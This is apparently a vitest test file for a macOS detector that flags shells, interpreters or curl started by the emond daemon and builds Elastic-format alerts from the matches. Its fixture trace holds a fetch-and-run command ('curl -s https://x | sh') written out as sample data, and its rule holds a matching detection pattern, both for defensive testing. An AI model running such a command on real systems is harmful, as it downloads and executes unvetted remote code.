import { describe, expect, it } from 'vitest';
import { buildAlert, SEVERITY_NUMBER } from '../../src/alerts/build-alert.js';
import { Detector } from '../../src/agent/detector.js';
import type { ExecEvent } from '../../src/events/exec-event.js';
import { parseLine } from '../../src/events/parse-line.js';
import { ProcessTree } from '../../src/process/process-tree.js';
import type { CompiledRule } from '../../src/rules/rule.js';
import { EMOND_RULE_ID, EMOND_THREAT } from '../helpers/alerts.js';
import { TraceBuilder } from '../helpers/eslogger.js';

/** A hand-made rule standing in for the EQL engine: emond's shell, interpreter or utility children. */
function emondRule(overrides: Partial<CompiledRule> = {}): CompiledRule {
  const children = /^(bash|sh|zsh|curl|python.*)$/i;
  return {
    id: EMOND_RULE_ID,
    name: 'Suspicious Emond Child Process',
    version: 108,
    description: 'emond started a shell, an interpreter or a utility.',
    severity: 'medium',
    risk_score: 47,
    max_signals: 100,
    interval: '5m',
    from: 'now-9m',
    tags: ['OS: macOS'],
    references: ['https://www.xorrior.com/emond-persistence/'],
    author: ['Elastic'],
    license: 'Elastic License v2',
    false_positives: [],
    threat: structuredClone(EMOND_THREAT),
    query: 'process where process.parent.name : "emond" and process.name : (…)',
    source: 'builtin:persistence_emond_rules_process_execution.toml',
    category: 'process',
    matches: (event: unknown) => {
      const e = event as ExecEvent;
      return e.event.type.includes('start') && e.process.parent.name?.toLowerCase() === 'emond' && children.test(e.process.name);
    },
    ...overrides,
  };
}

function emondTrace(): string[] {
  const t = new TraceBuilder({ version: 9 });
  const emond = t.spawn(t.existing(1, '/sbin/launchd', 0), 500, '/sbin/emond');
  const child = t.exec(t.spawn(emond, 600, '/bin/sh', ['sh', '-c', 'curl -s https://x | sh']), '/usr/bin/curl', ['curl', '-s', 'https://x']);
  t.exit(child);
  return t.lines;
}

function events(lines: string[]): ExecEvent[] {
  return lines.map((line) => {
    const parsed = parseLine(line);
    if (parsed.kind !== 'event') throw new Error(parsed.reason);
    return parsed.event;
  });
}

const NOW = new Date('2025-08-07T14:00:00.000Z');

describe('Detector', () => {
  it('resolves parents through its tree, then alerts once per matching event', () => {
    const detector = new Detector([emondRule()], { now: () => NOW });
    const alerts = events(emondTrace()).flatMap((event) => detector.process(event));
    expect(alerts.map((a) => [a.process.name, a.process.parent.name, a.es.parent_resolution])).toEqual([
      ['sh', 'emond', 'tree'],
      ['curl', 'emond', 'tree'],
    ]);
    expect(detector.counters.events).toBe(6);
    expect(detector.counters.alerts).toBe(2);
    expect(detector.counters.alertsByRule.get(EMOND_RULE_ID)).toBe(2);
  });

  it('returns a fresh empty array when nothing matches', () => {
    const detector = new Detector([emondRule({ matches: () => false })]);
    const [first, second] = events(emondTrace()).map((event) => detector.process(event));
    expect(first).toEqual([]);
    first!.push(undefined as never);
    expect(second).toEqual([]);
  });

  it('keeps going when a rule throws, and counts it', () => {
    const broken = emondRule({
      id: 'broken',
      matches: () => {
        throw new Error('boom');
      },
    });
    const detector = new Detector([broken, emondRule()]);
    const alerts = events(emondTrace()).flatMap((event) => detector.process(event));
    expect(alerts).toHaveLength(2);
    expect(detector.counters.ruleErrors).toBe(6);
    expect(detector.ruleFailures[0]).toEqual({ ruleId: 'broken', message: 'boom' });
  });

  it('uses the tree it is given (seeded by the daemon)', () => {
    const tree = new ProcessTree();
    tree.seed([{ pid: 500, ppid: 1, pidversion: 1001, executable: '/sbin/emond' }]);
    const detector = new Detector([emondRule()], { tree });
    // Only the child's exec: its parent comes from the snapshot.
    const childExec = emondTrace()[3]!;
    expect(detector.process(events([childExec])[0]!)).toHaveLength(1);
    expect(detector.tree).toBe(tree);
  });
});

describe('buildAlert', () => {
  const event = (() => {
    const detector = new Detector([]);
    const all = events(emondTrace());
    for (const e of all) detector.process(e);
    return all[3]!;
  })();

  it('builds the ECS alert document', () => {
    const alert = buildAlert(emondRule(), event, NOW);
    expect(alert['@timestamp']).toBe(event['@timestamp']);
    expect(alert.event).toEqual({
      kind: 'alert',
      category: ['process'],
      type: ['start'],
      action: 'exec',
      sequence: event.event.sequence,
      module: 'eslogger',
      created: '2025-08-07T14:00:00.000Z',
      severity: 47,
      risk_score: 47,
      // The alert's stable id, also kibana.alert.uuid (and the store row's uuid).
      id: alert.kibana?.alert.uuid,
    });
    expect(alert.event.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    expect(alert.rule).toEqual({
      id: EMOND_RULE_ID,
      name: 'Suspicious Emond Child Process',
      version: 108,
      severity: 'medium',
      risk_score: 47,
      description: 'emond started a shell, an interpreter or a utility.',
      reference: ['https://www.xorrior.com/emond-persistence/'],
      author: ['Elastic'],
      license: 'Elastic License v2',
      ruleset: 'builtin',
    });
    expect(alert.threat).toEqual(emondRule().threat);
    expect(alert.process).toEqual(event.process);
    expect(alert.process.parent.name).toBe('emond');
    expect(alert.host.os.type).toBe('macos');
    expect(alert.user.id).toBe('0');
    expect(alert.group).toEqual(event.group);
    expect(alert.es).toEqual(event.es);
    expect(alert.emondguard).toEqual({});
  });

  it('maps severities onto Elastic\'s numeric scale and marks custom rules', () => {
    expect(SEVERITY_NUMBER).toEqual({ low: 21, medium: 47, high: 73, critical: 99 });
    const alert = buildAlert(emondRule({ severity: 'critical', risk_score: 90, source: '/etc/rules/x.toml', license: undefined }), event, NOW);
    expect(alert.event.severity).toBe(99);
    expect(alert.event.risk_score).toBe(90);
    expect(alert.rule.ruleset).toBe('custom');
    expect('license' in alert.rule).toBe(false);
  });

  it('is a deep copy: later changes to the event or the rule do not reach it', () => {
    const rule = emondRule();
    const alert = buildAlert(rule, event, NOW);
    const copy = structuredClone(event);
    event.process.args.push('mutated');
    event.process.parent.name = 'changed';
    rule.threat[0]!.tactic.name = 'changed';
    rule.references.push('changed');
    expect(alert.process.args).toEqual(copy.process.args);
    expect(alert.process.parent.name).toBe('emond');
    expect(alert.threat[0]!.tactic.name).toBe('Persistence');
    expect(alert.rule.reference).toEqual(['https://www.xorrior.com/emond-persistence/']);
  });

  it('shares one frozen rule block and MITRE mapping among the alerts of a rule', () => {
    const rule = emondRule();
    const first = buildAlert(rule, event, NOW);
    const second = buildAlert(rule, event, NOW);
    // The store recognises a rule by the identity of these objects instead of serialising them per alert.
    expect(second.rule).toBe(first.rule);
    expect(second.threat).toBe(first.threat);
    expect(Object.isFrozen(first.rule.reference)).toBe(true);
    expect(Object.isFrozen(first.threat[0]!.tactic)).toBe(true);
    expect(() => {
      (first.rule as { name: string }).name = 'changed';
    }).toThrow(TypeError);
    // Another rule (a reload compiles new ones) gets its own.
    expect(buildAlert(emondRule(), event, NOW).rule).not.toBe(first.rule);
    // The event part is still each alert's own.
    expect(second.process).not.toBe(first.process);
  });
});
